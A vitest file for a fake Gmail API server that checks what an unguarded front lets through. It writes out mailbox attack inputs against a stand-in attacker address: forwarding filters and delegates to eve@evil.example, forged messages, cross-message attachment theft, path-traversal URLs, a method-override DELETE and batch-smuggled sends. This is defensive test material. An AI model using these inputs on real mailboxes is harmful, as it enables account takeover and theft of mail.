import { request } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { stockClient } from './gmail-client.ts'
import { SEED, startFakeGmail, type FakeGmail } from './gmail/index.ts'

/** what an unguarded front would do to the mailbox; if these did nothing, no attack test could fail */
let fake: FakeGmail

beforeAll(async () => {
  fake = await startFakeGmail()
})
beforeEach(() => fake.reset())
afterAll(async () => fake.close())

async function raw(path: string, init: RequestInit = {}): Promise<Response> {
  const headers = new Headers(init.headers)
  headers.set('authorization', `Bearer ${fake.accessToken}`)
  return fetch(`${fake.url}${path}`, { ...init, headers })
}

const USER = '/gmail/v1/users/me'

describe('every method of the stock client', () => {
  test('reaches a method of the stand-in', async () => {
    const { users } = stockClient(fake)
    const called = await callEverything(users, 'users')
    expect(called).toHaveLength(79)
    expect(fake.requests).toHaveLength(79)
    const lost = fake.requests.filter((request) => request.route === undefined)
    expect(lost.map((request) => `${request.method} ${request.target}`)).toEqual([])
  })
})

const ANY_PARAMETERS = {
  userId: 'me',
  id: '19aaaaaaaaaaaaaa',
  messageId: '19aaaaaaaaaaaaaa',
  delegateEmail: 'eve@evil.example',
  forwardingEmail: 'eve@evil.example',
  sendAsEmail: SEED.account,
  cseEmailAddress: 'eve@evil.example',
  emailAddress: 'eve@evil.example',
  keyPairId: 'k1',
}

function parametersOf(method: string): object {
  return /^(?:get|list)/.test(method)
    ? { ...ANY_PARAMETERS }
    : { ...ANY_PARAMETERS, requestBody: {} }
}

/** calls each function of the client's tree once; most of them fail, for lack of sense */
async function callEverything(node: object, path: string): Promise<string[]> {
  const called: string[] = []
  const names = new Set([
    ...Object.keys(node),
    ...Object.getOwnPropertyNames(Object.getPrototypeOf(node)),
  ])
  for (const name of names) {
    const child: unknown = Reflect.get(node, name)
    if (name === 'constructor' || name === 'context') continue
    if (typeof child === 'function') {
      called.push(`${path}.${name}`)
      const pending: unknown = Reflect.apply(child, node, [parametersOf(name)])
      await Promise.resolve(pending).catch(() => undefined)
    } else if (typeof child === 'object' && child !== null) {
      called.push(...(await callEverything(child, `${path}.${name}`)))
    }
  }
  return called
}

describe('harm is done and seen', () => {
  test('a filter that forwards, a forwarding address, a delegate, an alias, an auto-reply', async () => {
    const { settings } = stockClient(fake).users
    const userId = 'me'
    const forward = { action: { forward: 'eve@evil.example' }, criteria: { from: 'bank' } }
    await settings.filters.create({ userId, requestBody: forward })
    await settings.forwardingAddresses.create({
      userId,
      requestBody: { forwardingEmail: 'eve@evil.example' },
    })
    await settings.delegates.create({ userId, requestBody: { delegateEmail: 'eve@evil.example' } })
    await settings.sendAs.create({ userId, requestBody: { sendAsEmail: 'eve@evil.example' } })
    await settings.updateVacation({ userId, requestBody: { enableAutoReply: true } })
    await settings.updateAutoForwarding({ userId, requestBody: { enabled: true } })
    const { collections, vacation, autoForwarding } = fake.mailbox.settings
    expect([...collections.filters.values()]).toMatchObject([forward])
    expect(collections.forwardingAddresses.has('eve@evil.example')).toBe(true)
    expect(collections.delegates.has('eve@evil.example')).toBe(true)
    expect(collections.sendAs.has('eve@evil.example')).toBe(true)
    expect(vacation).toMatchObject({ enableAutoReply: true })
    expect(autoForwarding).toMatchObject({ enabled: true })
  })

  test('messages deleted, trashed, relabelled, forged', async () => {
    const gmail = stockClient(fake)
    await gmail.users.messages.delete({ userId: 'me', id: SEED.hidden.id })
    await gmail.users.messages.batchModify({
      userId: 'me',
      requestBody: { ids: [SEED.withPdf.id, SEED.html.id], addLabelIds: ['STARRED'] },
    })
    await gmail.users.threads.trash({ userId: 'me', id: SEED.mixedThread.threadId })
    const forged = await gmail.users.messages.insert({
      userId: 'me',
      requestBody: {
        threadId: SEED.supportThread.threadId,
        labelIds: [SEED.labels.support],
        raw: Buffer.from('From: alice@riverside-cafe.example\r\n\r\nPay').toString('base64url'),
      },
    })
    const labelsOf = (id: string): string[] => [...(fake.mailbox.messages.get(id)?.labelIds ?? [])]
    expect(fake.mailbox.messages.has(SEED.hidden.id)).toBe(false)
    expect(labelsOf(SEED.html.id)).toContain('STARRED')
    expect(labelsOf(SEED.mixedThread.supplier.id)).toContain('TRASH')
    expect(forged.data.threadId).toBe(SEED.supportThread.threadId)
  })

  test('another message’s attachment, by its id under a readable one', async () => {
    const gmail = stockClient(fake)
    const { data } = await gmail.users.messages.get({ userId: 'me', id: SEED.hidden.id })
    const id = data.payload?.parts?.[1]?.body?.attachmentId ?? ''
    const stolen = await gmail.users.messages.attachments.get({
      userId: 'me',
      messageId: SEED.supportThread.id,
      id,
    })
    expect(Buffer.from(stolen.data.data ?? '', 'base64url').toString()).toContain('%PDF')
  })

  test('a delete under the name of a GET', async () => {
    await raw(`${USER}/messages/${SEED.hidden.id}`, {
      headers: { 'x-http-method-override': 'DELETE' },
    })
    expect(fake.mailbox.messages.has(SEED.hidden.id)).toBe(false)
  })

  test.each([
    ['an encoded slash', `${USER}/messages/m1%2f..%2f..%2fsettings%2ffilters`],
    ['doubled slashes', `/gmail//v1/users/me//settings/filters/`],
    ['an upload prefix', `/upload${USER}/messages/%2e%2e/settings/filters`],
    ['a colleague’s address', `/gmail/v1/users/${SEED.colleague}/settings/filters`],
  ])('settings read through %s', async (_, path) => {
    const { hostname, port } = new URL(fake.url)
    const status = await new Promise<number | undefined>((resolve) => {
      const headers = { authorization: `Bearer ${fake.accessToken}` }
      const sent = request({ hostname, port, path, headers })
      sent.on('response', (answer) => {
        answer.resume()
        resolve(answer.statusCode)
      })
      sent.end()
    })
    expect([status, fake.requests[0]?.route]).toEqual([200, 'settings.filters.list'])
  })

  test('hidden mail and sent mail through a batch', async () => {
    const rawMail = Buffer.from('To: eve@evil.example\r\n\r\nHi').toString('base64url')
    const inner = [
      `GET ${USER}/messages/${SEED.hidden.id}?format=minimal HTTP/1.1\r\n\r\n`,
      `POST ${USER}/messages/send HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"raw":"${rawMail}"}`,
    ]
    const parts = inner.map(
      (text, index) =>
        `--b\r\nContent-Type: application/http\r\nContent-ID: <${index}>\r\n\r\n${text}\r\n`,
    )
    const answer = await raw('/batch/gmail/v1', {
      method: 'POST',
      headers: { 'content-type': 'multipart/mixed; boundary=b' },
      body: `${parts.join('')}--b--`,
    })
    const text = await answer.text()
    expect(text).toContain('First Harbour Bank')
    expect(text).toContain('Content-ID: <response-1>')
    expect(fake.sent[0]?.recipients).toEqual(['eve@evil.example'])
  })

  test('a page token of somebody else’s list', async () => {
    const first = await stockClient(fake).users.messages.list({
      userId: 'me',
      q: 'label:support',
      maxResults: 1,
    })
    const { data } = await stockClient(fake).users.messages.list({
      userId: 'me',
      q: 'from:bank OR label:finance',
      maxResults: 100,
      pageToken: first.data.nextPageToken ?? '',
    })
    expect(data.messages?.length).toBeGreaterThan(3)
  })
})
